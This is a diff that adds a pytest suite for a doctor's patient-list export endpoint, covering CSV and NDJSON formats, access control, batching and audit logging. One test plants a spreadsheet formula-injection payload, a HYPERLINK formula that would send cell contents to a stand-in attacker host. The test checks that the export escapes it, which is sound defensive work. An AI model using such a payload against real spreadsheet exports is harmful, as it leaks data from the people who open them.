@@ -0,0 +1,91 @@
+import csv
+import io
+import json
+
+from app.models.models import User
+from app.services import audit, panel_export
+from conftest import DOCTOR_ID, PATIENT_ID
+
+EXPORT = "/api/doctors/patients/export"
+
+
+class TestPanelExport:
+  def test_csv(self, api):
+    api.as_doctor()
+    response = api.client.get(EXPORT)
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    assert response.headers["content-disposition"].startswith('attachment; filename="patients-')
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert list(rows[0]) == panel_export.COLUMNS
+    assert [r["patient_id"] for r in rows] == sorted(f"auth0|patient{n}" for n in range(3))
+    assert all(r["documents_count"] == "3" for r in rows)
+    assert rows[0]["email"] == "patient0@example.com"
+
+  def test_formulas_neutralised_in_csv(self, api):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Open chart")'
+    db = api.session_factory()
+    try:
+      patient = db.get(User, PATIENT_ID)
+      patient.first_name = name
+      patient.last_name = "@SUM(1+1)"
+      patient.phone = "-1"
+      db.commit()
+    finally:
+      db.close()
+    api.as_doctor()
+    rows = list(csv.DictReader(io.StringIO(api.client.get(EXPORT).text)))
+    row = next(r for r in rows if r["patient_id"] == PATIENT_ID)
+    assert row["first_name"] == "'" + name
+    assert row["last_name"] == "'@SUM(1+1)"
+    assert row["phone"] == "'-1"
+    assert rows[1]["first_name"] == "Pat"
+
+    ndjson = api.client.get(EXPORT, params={"format": "ndjson"}).text.splitlines()
+    assert json.loads(ndjson[0])["first_name"] == name
+
+  def test_ndjson(self, api):
+    api.as_doctor()
+    response = api.client.get(EXPORT, params={"format": "ndjson"})
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"] == "application/x-ndjson"
+    rows = [json.loads(line) for line in response.text.splitlines()]
+    assert {r["patient_id"]: r["documents_count"] for r in rows} == {f"auth0|patient{n}": 3 for n in range(3)}
+    assert isinstance(rows[0]["created_at"], str)
+
+  def test_only_own_panel_and_counts_per_patient(self, api):
+    api.add_patients(2, documents_per_patient=0, doctor_id="auth0|other-doctor", start=3)
+    api.add_patients(1, documents_per_patient=5, start=5)
+    api.as_doctor()
+    rows = [json.loads(line) for line in api.client.get(EXPORT, params={"format": "ndjson"}).text.splitlines()]
+    assert {r["patient_id"]: r["documents_count"] for r in rows} == {
+      "auth0|patient0": 3, "auth0|patient1": 3, "auth0|patient2": 3, "auth0|patient5": 5,
+    }
+
+  def test_rows_fetched_in_batches(self, api):
+    batches = list(panel_export.iter_panel(DOCTOR_ID, batch_size=2))
+    assert [len(batch) for batch in batches] == [2, 1]
+    assert batches[0][0][0] == PATIENT_ID
+
+  def test_empty_panel_has_header_only(self, api):
+    api.as_doctor("auth0|lonely-doctor")
+    db = api.session_factory()
+    db.add(User(auth0_user_id="auth0|lonely-doctor", email="lonely@example.com", first_name="L", last_name="D", role="doctor"))
+    db.commit()
+    db.close()
+    response = api.client.get(EXPORT)
+    assert response.status_code == 200
+    assert response.text == ",".join(panel_export.COLUMNS) + "\n"
+
+  def test_audited(self, api):
+    api.as_doctor()
+    api.client.get(EXPORT)
+    assert [e["action"] for e in audit.buffer.pending] == [audit.PATIENT_EXPORT]
+
+  def test_unknown_format(self, api):
+    api.as_doctor()
+    assert api.client.get(EXPORT, params={"format": "xml"}).status_code == 422
+
+  def test_patients_cannot_export(self, api):
+    api.as_patient()
+    assert api.client.get(EXPORT).status_code == 403